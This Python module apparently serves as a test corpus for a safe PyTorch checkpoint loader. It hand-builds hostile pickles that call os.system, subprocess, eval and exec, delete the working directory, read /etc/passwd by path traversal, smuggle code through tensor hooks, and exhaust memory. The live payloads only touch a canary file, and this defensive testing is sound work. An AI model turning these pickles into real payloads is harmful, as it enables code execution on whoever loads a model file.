"""Pickles that attack whoever unpickles them, as bytes; made by hand, since no pickler would write most."""

from __future__ import annotations

import pickle
import struct

PROTOCOL = b"\x80\x02"
MARK_OF_RUNNING = "ran"  # what code that runs leaves in the working directory
PRIME = 2**61 - 1  # hash(n) is n modulo this
OTHERS_MODULE = "hostile_canary"  # importing it leaves the mark


def text(value: str) -> bytes:
    encoded = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def number(value: int) -> bytes:
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    encoded = pickle.encode_long(value)
    return b"\x8a" + bytes([len(encoded)]) + encoded


def tuple_of(*parts: bytes) -> bytes:
    return b"(" + b"".join(parts) + b"t"


def imported(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode("utf-8", "surrogateescape")


def call(module: str, name: str, *arguments: bytes) -> bytes:
    return imported(module, name) + tuple_of(*arguments) + b"R"


def state(value: bytes, key: bytes = text("weight")) -> bytes:
    """A whole pickle: a checkpoint in whose module's state the value lies under the key."""
    return (
        PROTOCOL
        + b"}("
        + text("module_interface_state")
        + (b"}" + key + value + b"s")
        + (text("trainer_state") + b"}")
        + (text("trainer_backend_state") + b"Nu.")
    )


def storage(
    key: bytes = text("0"), numel: bytes = number(4), kind: str = "FloatStorage", place: str = "cpu"
) -> bytes:
    return tuple_of(text("storage"), imported("torch", kind), key, text(place), numel) + b"Q"


def tensor(
    size: tuple[int, ...] = (4,),
    stride: tuple[int, ...] = (1,),
    offset: int = 0,
    stored: bytes = storage(),
    function: str = "_rebuild_tensor_v2",
    hooks: bytes = call("collections", "OrderedDict"),
) -> bytes:
    shape, steps = (tuple_of(*map(number, one)) for one in (size, stride))
    return call("torch._utils", function, stored, number(offset), shape, steps, b"\x89", hooks)


def _shell() -> bytes:
    return text(f"touch {MARK_OF_RUNNING}")


_PYTHON = text(f"open({MARK_OF_RUNNING!r}, 'w')")
_ARGUMENTS = b"](" + text("touch") + text(MARK_OF_RUNNING) + b"e"
_INNER = call("os", "system", _shell())
_LATIN1 = text((PROTOCOL + _INNER + b".").decode("latin1"))
_AS_BYTES = call("_codecs", "encode", _LATIN1, text("latin1"))

# What a pickle would call, with what.
CALLS: list[tuple[str, str, tuple[bytes, ...]]] = [
    ("os", "system", (_shell(),)),
    ("posix", "system", (_shell(),)),
    ("nt", "system", (_shell(),)),
    ("os", "popen", (_shell(),)),
    ("os", "execvp", (text("touch"), _ARGUMENTS)),
    ("os", "mkdir", (text(MARK_OF_RUNNING),)),
    ("posix", "unlink", (text("/nonexistent"),)),
    ("subprocess", "Popen", (_ARGUMENTS,)),
    ("subprocess", "check_output", (_ARGUMENTS,)),
    ("commands", "getoutput", (_shell(),)),
    ("builtins", "eval", (_PYTHON,)),
    ("builtins", "exec", (_PYTHON,)),
    ("__builtin__", "eval", (_PYTHON,)),
    ("builtins", "compile", (_PYTHON, text("x"), text("exec"))),
    ("builtins", "open", (text(MARK_OF_RUNNING), text("w"))),
    ("builtins", "getattr", (imported("os", "path"), text("system"))),
    ("builtins", "__import__", (text(OTHERS_MODULE),)),
    ("builtins", "breakpoint", ()),
    ("importlib", "import_module", (text(OTHERS_MODULE),)),
    (OTHERS_MODULE, "anything", ()),
    ("runpy", "run_module", (text(OTHERS_MODULE),)),
    ("runpy", "_run_code", (_PYTHON, b"}")),
    ("code", "InteractiveInterpreter", ()),
    ("timeit", "timeit", (_PYTHON,)),
    ("cProfile", "run", (_PYTHON,)),
    ("pdb", "run", (_PYTHON,)),
    ("pty", "spawn", (_ARGUMENTS,)),
    ("shutil", "rmtree", (text("."),)),
    ("socket", "create_connection", (tuple_of(text("127.0.0.1"), number(9)),)),
    ("ctypes", "CDLL", (text("libc.so.6"),)),
    ("webbrowser", "open", (text("file:///"),)),
    ("operator", "methodcaller", (text("system"),)),
    ("functools", "partial", (imported("os", "system"),)),
    ("types", "FunctionType", (b"N", b"}")),
    ("sys", "exit", (number(0),)),
    ("sys", "settrace", (imported("os", "system"),)),
    ("pickle", "loads", (_AS_BYTES,)),
    ("_pickle", "loads", (_AS_BYTES,)),
    ("torch.storage", "_load_from_bytes", (_AS_BYTES,)),
    ("torch", "load", (text("/proc/self/mem"),)),
    ("torch.hub", "load", (text("evil/evil"), text("x"))),
    ("torch.jit", "load", (text("/dev/zero"),)),
    ("torch.serialization", "load", (text("x"),)),
    ("torch.utils.cpp_extension", "load", (text("x"), text("x.cpp"))),
    ("torch._inductor.codecache", "compile_file", (text("a"), text("b"), text("c"))),
    ("numpy.testing._private.utils", "runstring", (_PYTHON, b"}")),
    ("collections", "namedtuple", (text("A"), text("b"))),
    ("os\x1b[31m", "system\x07", (_shell(),)),
    ("os", "\u202emetsys", (_shell(),)),
    ("os", "system" * 50_000, (_shell(),)),
]


def _laughs(depth: int, pair: bytes) -> bytes:
    """A value of 2^depth parts, each level the one below twice, by a memo entry for each level."""
    levels = (b"q%ch%c" % (level, level) + pair for level in range(depth))
    return b")" + b"".join(levels)


# Opcodes that misuse the machine, most of which weights_only does not know or must refuse.
TRICKS: dict[str, bytes] = {
    "BUILD calls __setstate__": state(call("builtins", "set") + b"}" + text("__class__") + _INNER + b"sb"),
    "BUILD on an ordered dict": state(
        call("collections", "OrderedDict") + b"}" + text("keys") + _INNER + b"sb"
    ),
    "BUILD on a tensor": state(tensor() + tuple_of(number(1), number(2)) + b"b"),
    "REDUCE of a string": state(text("os.system") + tuple_of(_shell()) + b"R"),
    "REDUCE of a tensor": state(tensor() + tuple_of() + b"R"),
    "REDUCE chain": state(call("os", "getcwd") + b")R" * 1000),
    "code after the hooks": state(tensor(hooks=_INNER)),
    "INST": state(b"(" + _shell() + b"ios\nsystem\n"),
    "OBJ": state(b"(" + imported("os", "system") + _shell() + b"o"),
    "NEWOBJ": state(imported("subprocess", "Popen") + tuple_of(_ARGUMENTS) + b"\x81"),
    "NEWOBJ_EX": state(imported("subprocess", "Popen") + tuple_of(_ARGUMENTS) + b"}\x92"),
    "STACK_GLOBAL": state(b"\x8c\x02os\x8c\x06system\x93" + tuple_of(_shell()) + b"R"),
    "EXT1": state(b"\x82\x01"),
    "PERSID": state(b"Pos.system\n"),
    "persistent id of another kind": state(tuple_of(text("module"), text("os")) + b"Q"),
    "persistent id of a number": state(number(0) + b"Q"),
    "persistent id of nothing": state(b")Q"),
    "persistent id of a code object": state(_INNER + b"Q"),
    "memo index 2^31": state(b"]r\x00\x00\x00\x80j\x00\x00\x00\x80"),
    "memo index that was never put": state(b"h\x07"),
    "LONG4 of 2^31-1": state(b"\x8b\xff\xff\xff\x7f"),
    "string of 2^32-1": state(b"X\xff\xff\xff\xff"),
    "string of 2^62": state(b"\x8d" + struct.pack("<Q", 2**62)),
    "byte array of 2^62": state(b"\x96" + struct.pack("<Q", 2**62)),
    "frame of 2^62": PROTOCOL + b"\x95" + struct.pack("<Q", 2**62) + state(b"N")[2:],
    "string of broken UTF-8": state(b"X\x02\0\0\0\xff\xfe"),
    "GLOBAL of broken UTF-8": state(b"c\xff\xfe\n\xff\n"),
    "GLOBAL without an end": PROTOCOL + b"c" + b"x" * 100_000,
    "stack underflow": PROTOCOL + b"0000tRb.",
    "append to nothing": PROTOCOL + b"a.",
    "no STOP": state(b"N")[:-1],
    "no pickle": b"",
    "noise": bytes(range(256)) * 40,
    "odd number of items": PROTOCOL + b"}(" + text("a") + b"u.",
    "items of a tensor": state(tensor() + number(0) + number(1) + b"s"),
    "unhashable key": state(b"N", key=b"]"),
    "top level lists, deep": PROTOCOL + b"]" * 100_000 + b"a" * 99_999 + b".",
    "a name of 300,000 letters": state(
        imported("torch._utils", "_rebuild_qtensor") + b"0" + imported("os", "x" * 300_000)
    ),
    "10,000 names to import": state(
        b"".join(imported(f"a{one}", "b") + b"0" for one in range(10_000)) + b"N"
    ),
    "code in an ordered dict of hooks": state(call("collections", "OrderedDict", b"](" + _INNER + b"e")),
    "rebuild from a type": state(
        call(
            "torch._tensor", "_rebuild_from_type_v2", imported("os", "system"), b"N", tuple_of(_shell()), b"}"
        )
    ),
}

# Tensors and storages that are not what the file holds of them. `data/0` has 16 bytes.
TENSORS: dict[str, bytes] = {
    "negative stride": tensor(stride=(-1,)),
    "negative size": tensor(size=(-4,)),
    "negative offset": tensor(offset=-2),
    "offset behind the record": tensor(offset=2**40),
    "tensor beyond its record": tensor(size=(5,)),
    "stride beyond its record": tensor(size=(4,), stride=(10**9,)),
    "size of 2^62": tensor(size=(2**62,)),
    "size of 2^80": tensor(size=(2**80,)),
    "product of sizes overflows": tensor(size=(2**32, 2**32), stride=(1, 1)),
    "10,000 dimensions": tensor(size=(4,) * 10_000, stride=(0,) * 10_000),
    "fewer strides than sizes": tensor(size=(2, 2)),
    "numel too large": tensor(stored=storage(numel=number(5))),
    "numel of 2^31": tensor(stored=storage(numel=number(2**31))),
    "numel of 2^62": tensor(stored=storage(numel=number(2**62))),
    "numel of 2^80": tensor(stored=storage(numel=number(2**80))),
    "numel negative": tensor(stored=storage(numel=number(-4))),
    "numel a string": tensor(stored=storage(numel=text("4"))),
    "numel a bomb": tensor(stored=storage(numel=b"N")),
    "wider type than the record": tensor(stored=storage(kind="DoubleStorage")),
    "type that is no storage": tensor(stored=storage(kind="Tensor")),
    "storage that is not there": tensor(stored=storage(key=text("7"))),
    "storage of another path": tensor(stored=storage(key=text("../../../../etc/passwd"))),
    "storage of an absolute path": tensor(stored=storage(key=text("/etc/passwd"))),
    "storage that is the pickle": tensor(stored=storage(key=text("../data.pkl"))),
    "sparse with indices out of range": call(
        "torch._utils",
        "_rebuild_sparse_tensor",
        call("torch.serialization", "_get_layout", text("torch.sparse_coo")),
        tuple_of(
            tensor((1, 4), (4, 1), stored=storage(text("1"), number(4), "LongStorage")),
            tensor(),
            tuple_of(number(2)),
            b"\x89",
        ),
    ),
    "quantized with a scheme of strings": call("torch._utils", "_rebuild_qtensor", *[text("x")] * 7),
    "parameter of a string": call("torch._utils", "_rebuild_parameter", text("x"), b"\x88", b"}"),
    "tensor of tensors": call("torch", "Tensor", tensor(), tensor()),
}

# What loads, or may: nothing in it does harm, and only what it costs is in question.
COSTLY: dict[str, bytes] = {
    "stride 0, 10^12 elements": state(tensor(size=(10**12,), stride=(0,))),
    "stride 0, 10^12 elements as a key": PROTOCOL + b"}" + tensor(size=(10**12,), stride=(0,)) + b"Ns.",
    "overlapping strides": state(tensor(size=(2, 2), stride=(1, 1))),
    "shared lists of 2^60": state(_laughs(60, b"\x86")),
    "lists nested 100,000 deep": state(b"]" * 100_000 + b"a" * 99_999),
    "tuples nested 100,000 deep": state(b")" + b"\x85" * 100_000),
    "dicts nested 20,000 deep": state((b"}" + text("a")) * 20_000 + b"N" + b"s" * 20_000),
    "tuples nested 5,000 deep as the key": PROTOCOL + b"})" + b"\x85" * 5_000 + b"Ns.",
    "20,000 colliding keys": state(
        b"}(" + b"".join(number(one * PRIME) + b"N" for one in range(1, 20_001)) + b"u"
    ),
    "100,000 keys": state(b"}(" + b"".join(number(one) + b"N" for one in range(100_000)) + b"u"),
    "a million empty lists": state(b"](" + b"]" * 1_000_000 + b"e"),
    "meta tensor of 10^12": state(
        call(
            "torch._utils",
            "_rebuild_meta_tensor_no_storage",
            imported("torch", "float32"),
            tuple_of(number(10**12)),
            tuple_of(number(1)),
            b"\x89",
        )
    ),
    "memo index 2^32-1": state(b"]r\xff\xff\xff\xff"),
    "LONG1 of 255 bytes": state(b"\x8a\xff" + b"\x7f" * 255, key=b"\x8a\xff" + b"\x7f" * 255),
    "protocol 255": b"\x80\xff" + state(b"N")[2:],
    "storage with a NUL": state(tensor(stored=storage(key=text("0\0x")))),
    "storage with a number for its key": state(tensor(stored=storage(key=number(0)))),
    "storage on a device with a path": state(tensor(stored=storage(place="../../dev/sda"))),
    "one record as two storages of two types": state(
        tuple_of(tensor(), tensor(stored=storage(kind="LongStorage")))
    ),
    "a string of 4,000,000 beginnings of an import": state(text("c" * 4_000_000)),
    "a list that holds itself": state(b"]q\x00h\x00a"),
}

# A few bytes that make torch's own weights-only loading run long, fill the memory or end the process.
AMPLIFIED: dict[str, bytes] = {
    "bytearray of 2^31": state(call("builtins", "bytearray", number(2**31 - 1))),
    "bytes doubled 30 times": state(
        imported("_codecs", "encode") * 30
        + call("_codecs", "encode", text("x" * 16), text("latin1"))
        + (text("hex") + b"\x86R") * 30
    ),
    "tuples of 2^40 as a key": state(b"N", key=_laughs(40, b"\x86")),
    "tuples nested 1,000,000 deep as a key": state(b"N", key=b")" + b"\x85" * 1_000_000),
    "set of a tensor of 10^9": state(call("builtins", "set", tensor(size=(10**9,), stride=(0,)))),
    "tensor of 10^9 converted": state(
        call(
            "torch._utils",
            "_rebuild_device_tensor_from_cpu_tensor",
            tensor(size=(10**9,), stride=(0,)),
            imported("torch", "float64"),
            text("cpu"),
            b"\x89",
        )
    ),
}
